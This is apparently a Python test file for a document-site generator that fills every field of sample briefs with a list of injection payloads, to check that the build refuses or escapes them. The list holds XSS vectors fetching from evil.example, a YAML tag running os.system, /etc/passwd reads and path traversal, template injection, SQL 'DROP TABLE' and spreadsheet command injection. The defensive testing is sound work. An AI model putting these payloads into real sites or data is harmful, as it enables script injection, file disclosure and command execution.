"""What somebody could write into a brief to make it do something: each text, in each field.

Whatever runs calls `alert`, sets `ran`, or asks `evil.example` for something.
"""

import copy
import html
import json
from collections import defaultdict
from collections.abc import Iterable, Sequence
from functools import cache
from typing import Any

import yaml
from pydantic import BaseModel

from generator.format import characters, traversal
from generator.format import version as versions
from generator.format.brief import Brief
from generator.format.field_type import FieldType
from generator.format.glossary import GlossaryEntry
from generator.format.profile import Profile
from generator.format.topics import TopicEntry
from generator.format.version import FrozenVersion, VersionAuthor
from generator.pipeline import Checked
from generator.reading.folder import ParsedFile
from generator.reading.yaml.node import Scalar
from tests.project import check

PAYLOADS = {
    # HTML
    "script": "<script>alert(1);ran=1</script>",
    "script-in-capitals": "<ScRiPt/x>alert(1)</sCrIpT >",
    "script-from-elsewhere": "<script src=https://evil.example/a.js></script>",
    "image": '<img src=x onerror="alert(1)">',
    "image-without-end": "<img src=x onerror=alert(1)//",
    "vector-picture": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "frame": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "form": "<form action=https://evil.example/><input autofocus onfocus=alert(1)>",
    "style": "<style>@import 'https://evil.example/a.css';</style>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": "<base href=https://evil.example/>",
    "double-quote": '" autofocus tabindex=1 onfocus="alert(1)',
    "single-quote": "' autofocus tabindex=1 onfocus='alert(1)",
    "title-ends": "</title></textarea></style></script><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "marked-section": "]]><script>alert(1)</script><![CDATA[",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "entity-without-end": "&#x3Cscript&#x3Ealert(1)&#x3C/script&#x3E",
    "slot-of-a-marker": "\u0002wzxhzdk:0\u0003 <b>",
    # Markdown and its extensions
    "link-to-a-script": "[here](javascript:alert(1))",
    "link-with-entities": "[here](&#106;avascript:alert(1))",
    "link-with-a-title": '[here](https://example.org "\\" onmouseover=\\"alert(1)")',
    "link-of-data": "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link-by-reference": "[here][1] [1]: javascript:alert(1)",
    "link-of-angles": "<javascript:alert(1)> <https://evil.example/>",
    "picture": "![tracked](https://evil.example/a.png)",
    "picture-of-a-file": "![](../../mkdocs.yml)",
    "attributes": "words {: onclick=alert(1) #other .card style='position:fixed' }",
    "attributes-of-a-heading": "# Heading { onclick=alert(1) }",
    "markdown-in-html": '<div markdown="1" onclick="alert(1)">**x**</div>',
    "snippet": '--8<-- "/etc/passwd"',
    "snippet-of-an-address": '--8<-- "https://evil.example/a.md"',
    "admonition": '!!! note "<script>alert(1)</script>"',
    "tab": '=== "<script>alert(1)</script>"',
    "fence": '```html title="<script>alert(1)</script>"',
    "footnote": "[^1] [^1]: <script>alert(1)</script>",
    "abbreviation": "*[HTML]: <script>alert(1)</script>",
    "contents": "[TOC]",
    "formula": "$\\href{javascript:alert(1)}{x}$",
    "table": "| <script>alert(1)</script> | --- |",
    # front matter, templates, YAML
    "front-matter": "--- title: <script>alert(1)</script> template: ../../mkdocs.yml ---",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}{{ config.__class__.__init__.__globals__ }}",
    "template-of-the-engine": "{{ page.meta }}{% raw %}{# comment #}",
    "environment": "!ENV [HOME] ${HOME} $HOME %HOME%",
    "tag": "!!python/object/apply:os.system ['echo ran']",
    # files and addresses
    "path": "../../../../etc/passwd",
    "path-of-windows": "..\\..\\..\\windows\\win.ini",
    "path-with-a-zero": "a.md%00.png/../../b",
    "address-of-a-script": "javascript:alert(1)",
    "address-of-a-script-in-disguise": "JaVaScRiPt://evil.example/%0aalert(1)",
    "address-of-data": "data:text/html,<script>alert(1)</script>",
    "address-of-a-file": "file:///etc/passwd",
    "address-without-scheme": "//evil.example/a",
    "address-of-brackets": "https://[::1]:80/a[1]?b[]=2",
    "address-with-a-user": "https://example.org@evil.example/",
    "address-that-breaks-out": "https://example.org/\"onmouseover=\"alert(1)\"x=')",
    "address-with-markup": "https://example.org/)](javascript:alert(1))<script>alert(1)</script>",
    # other formats
    "spreadsheet": '=HYPERLINK("https://evil.example/","x")',
    "spreadsheet-command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "typesetting": '#read("/etc/passwd") #image("https://evil.example/a.png") $ x $ @other <label>',
    "calendar": "x\\nATTACH:https://evil.example/a;ENCODING=BASE64:x",
    "query": "'); DROP TABLE briefs; --",
    "backslashes": "\\\\ \\\" \\' \\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\",
    # characters
    "right-to-left": "evil\u202egpj.exe\u202c \u2066\u2067x\u2069",
    "unseen": "pay\u200bpal \ufeffx\u00ad\u2060",
    "separators": "a\u2028b\u2029c\u0085d",
    "control": "a\u0000b\u0008c\u001b[31md",
    "surrogate": "\ud83d x",
    "not-a-character": "\ufffe \uffff",
    "many-marks": "Z" + "\u0301\u0323" * 400,
    "long-word": "x" * 5_000,
    "long-line": "word " * 1_000,
    "many-brackets": "[" * 4_000,
    "many-links": "[a](" * 1_250,
    "many-asterisks": "*a_ " * 1_250,
    "many-quotations": "> " * 2_000,
    "many-entities": "&" * 5_000,
    "many-backticks": "`a" * 700,
    "look-alike": "\u0440\u0430ypal \u13df\u13a1\u13a1",
    "emoji": "👩‍👩‍👧‍👦 🇨🇳 上海 «кавычки»",
}  # fmt: skip

BRIEF: dict[str, Any] = {
    "title": "A brief", "summary": "What happened.", "date": "2020-05-01", "topics": ["topic"], "scope": "All of it.",
    "authors": [{"name": "An author of it"}], "reviewers": [{"name": "A reviewer"}],
    "key_judgements": [
        {"text": "A conclusion.", "confidence": "low", "likelihood": "likely", "basis": "A paper.", "alternatives": ["Another one."],
         "would_change": ["A letter."], "sources": ["paper"]},
    ],
    "actors": [
        {"id": "one", "role": "First", "sources": ["paper"]},
        {"id": "two", "name": "Actor Two", "kind": "person", "role": "Second"},
    ],
    "relations": [{"from": "one", "to": "two", "label": "neighbour of", "date": "2020", "sources": ["paper"]}],
    "timeline": [
        {"id": "event", "date": "2020-01", "title": "An event", "text": "More about it.", "note": "Doubtful.", "status": "disputed",
         "actors": ["one", "two"], "sources": ["paper"]},
    ],
    "quotes": [{"id": "quote", "text": "What was said", "speaker": "one", "date": "2020-01", "context": "There.", "source": "paper"}],
    "background": "What came before.",
    "figures": [
        {"title": "How many", "unit": "pieces", "series": ["here", "there"],
         "rows": [{"label": "2019", "values": ["1", "2"], "sources": ["paper"]}], "note": "Counted twice."},
    ],
    "open_questions": ["What next?"],
    "forecasts": [
        {"statement": "It ends.", "probability": "50", "made_on": "2020-05-01", "resolves_by": "2050-01-01", "criteria": "A paper says so.",
         "outcome": "yes", "resolved_on": "2020-06-01", "sources": ["paper"]},
    ],
    "indicators": ["The weather."],
    "sources": {
        "paper": {"title": "A paper", "description": "Of two pages", "note": "Seen in a copy.", "authors": ["An author"],
                  "publisher": "A publisher", "published": "2020", "url": "https://example.org/", "archived": "https://archive.example/",
                  "language": "en"},
    },
    "corrections": [{"date": "2020-05-02", "text": "What was wrong."}],
    "see_also": [], "formerly": [],
}  # fmt: skip
PROFILE: dict[str, Any] = {
    "name": "Actor One", "kind": "person", "summary": "Somebody.", "aliases": ["The first"],
    "affiliations": [{"to": "two", "role": "friend", "sources": ["page"]}],
    "sources": {
        "page": {"title": "A page", "description": "With a picture", "note": "Seen later.", "authors": ["A writer"], "publisher": "A site"},
    },
}  # fmt: skip
TOPIC: dict[str, Any] = {"title": "A topic", "summary": "What belongs to it."}
TERM: dict[str, Any] = {
    "term": "A term",
    "aliases": ["Terms"],
    "explanation": "It is explained.",
    "url": "https://example.org/",
}

Path = tuple[str | int, ...]
Field = tuple[str, Path]
"""A file, by kind, and a place in it."""


def paths(tree: Any, base: Path = ()) -> list[Path]:  # noqa: ANN401 -- what YAML holds
    """Where texts stand in the tree."""
    if isinstance(tree, str):
        return [base]
    entries = tree.items() if isinstance(tree, dict) else enumerate(tree)
    return [path for key, value in entries for path in paths(value, (*base, key))]


def put(tree: Any, path: Path, text: str) -> None:  # noqa: ANN401 -- what YAML holds
    for step in path[:-1]:
        tree = tree[step]
    tree[path[-1]] = text


def project(number: int, changes: dict[Field, str]) -> dict[str, str]:
    """The files of a brief, an actor, a topic and a term of their own, with texts changed by file and path."""
    trees = copy.deepcopy({"brief": BRIEF, "profile": PROFILE, "topic": TOPIC, "term": TERM})
    for (name, path), text in changes.items():
        put(trees[name], path, text)
    # another name than that of the profile, also where a text stands in every field
    trees["brief"]["actors"][1]["name"] += f" the second of {number}"
    files = {
        "brief": _renumbered(trees["brief"], number),
        "profile": _renumbered(trees["profile"], number),
        "topic": {f"topic-{number}": trees["topic"]},
        "term": {f"term-{number}": trees["term"]},
    }
    return {
        path: "".join(_entry(key, json.dumps(value)) for key, value in files[name].items())
        for name, path in paths_of(number).items()
    }


def merged(projects: Iterable[dict[str, str]]) -> dict[str, str]:
    """The files of all of them: a file of which there is only one has the entries of each."""
    made: defaultdict[str, str] = defaultdict(str)
    for path, text in (each for files in projects for each in files.items()):
        made[path] += text
    return made


def paths_of(number: int) -> dict[str, str]:
    return {
        "brief": f"briefs/brief-{number}.yml",
        "profile": f"briefs/actors/one-{number}.yml",
        "topic": "briefs/topics.yml",
        "term": "briefs/glossary.yml",
    }


@cache
def _entry(key: str, value: str) -> str:
    """An entry of a file, of a value as JSON; most are the same in many files."""
    return yaml.safe_dump({key: json.loads(value)}, allow_unicode=True, sort_keys=False)


def _renumbered(tree: Any, number: int) -> Any:  # noqa: ANN401 -- what YAML holds
    """The tree with ids that no other case has."""
    if isinstance(tree, str):
        return f"{tree}-{number}" if tree in {"one", "two", "topic"} else tree
    if isinstance(tree, dict):
        return {key: _renumbered(value, number) for key, value in tree.items()}
    return [_renumbered(each, number) for each in tree] if isinstance(tree, list) else tree


FIELDS = [
    *(("brief", path) for path in paths(BRIEF)),
    *(("profile", path) for path in paths(PROFILE)),
    *(("topic", path) for path in paths(TOPIC)),
    *(("term", path) for path in paths(TERM)),
]


def refused(fields: Sequence[Field], text: str) -> set[Field]:
    """In which of the fields the check finds an error, with which a build ends, where the text stands in all.

    An error that is in no field is one of the whole file, and so of all of them.
    """
    checked = check(project(0, dict.fromkeys(fields, text)))
    if not checked.errors:
        return set()
    return {field for field in fields if _has_any(checked, field)} or set(fields)


def _has_any(checked: Checked, field: Field) -> bool:
    name, location = field
    path = paths_of(0)[name]
    found = checked.collection
    files: list[ParsedFile[Any]] = [*found.files]
    (document,) = (file.document for file in files if file.document.path == path)
    value = document.node((f"{name}-0", *location) if name in {"topic", "term"} else location)
    assert value is None or isinstance(value, Scalar)
    lines = [each.span.start.line for each in checked.errors if each.path == path]
    if value is None:  # the file can't be read at all
        return bool(lines)
    last = value.line + document.readable.count("\n", value.start, value.end)
    return any(value.line <= line <= last for line in lines)


MODELS: dict[str, type[BaseModel]] = {
    "brief": Brief,
    "profile": Profile,
    "topic": TopicEntry,
    "term": GlossaryEntry,
}


@cache
def kind_of(field: Field) -> FieldType | None:
    name, path = field
    member = traversal.member_at(MODELS[name], path)
    return member.field_type if member else None


def taken(text: str) -> list[Field]:
    """The fields in which the text may stand: if not in one of a kind, then in none of them."""
    kinds = {field: kind_of(field) for field in FIELDS}
    one_of_each = {kind: field for field, kind in reversed(kinds.items())}
    taking = {kinds[field] for field in _taken([*one_of_each.values()], text)}
    return _taken([field for field, kind in kinds.items() if kind in taking], text)


def _taken(fields: list[Field], text: str) -> list[Field]:
    while wrong := refused(fields, text):
        fields = [field for field in fields if field not in wrong]
    return fields


def of_versions() -> list[str]:
    """The texts that versions can have; all others have characters that none may contain."""
    return [
        text for text in PAYLOADS.values() if not (characters.BAD.search(text) or any(characters.heaps(text)))
    ]


def version(brief: str, date: str) -> str:
    """The file of a version with every text in every place, as somebody could write it without freezing."""
    texts = of_versions()
    first = texts[0]
    page = ["<h1>A version</h1>"]
    for text in texts:
        words = html.escape(text)
        page += [
            f"<h2>{words}</h2>",
            f'<h3 id="a-place">{words}</h3>',
            f'<p>{words}<a href="https://evil.example/?a=1&amp;b=\'&quot;#c">{words}</a></p>',
            f'<ul><li class="card">{words}</li>{words}</ul>',
            f"<details><summary>{words}</summary><table><tr><td><code>{words}</code></td></tr></table></details>",
            f'<p><a href="#x">[1, {words}]</a></p>',
            words,
        ]
    for text in (each for each in texts if len(each) < 600):  # and as HTML
        page += [
            text, f"<p>{text}</p>", f'<p class="{text}" {text}></p>', f"<a href='{text}'></a>",
            f"<svg><text fill='{text}'>{text}</text></svg>",
        ]  # fmt: skip
    references = [
        {"id": f"{brief}:source--x", "type": "webpage", "title": text, "author": [{"literal": text}]}
        for text in texts
    ]
    made = FrozenVersion(
        brief=brief,
        date=date,
        program=first[:40],
        site=first,
        language="en",
        licence="https://evil.example/",
        title=first,
        summary=first,
        authors=tuple(VersionAuthor(name=text) for text in texts if len(text) <= 600),
        topics=tuple(text for text in texts if len(text) <= 600),
        page=tuple(page),
        data=json.dumps({"title": texts}),
        references=json.dumps(references),
        file=yaml.safe_dump({"title": first, "timeline": [{"date": text, "title": text} for text in texts]}),
        doi="10.5281/zenodo.1",
    )
    return versions.written(made).decode()
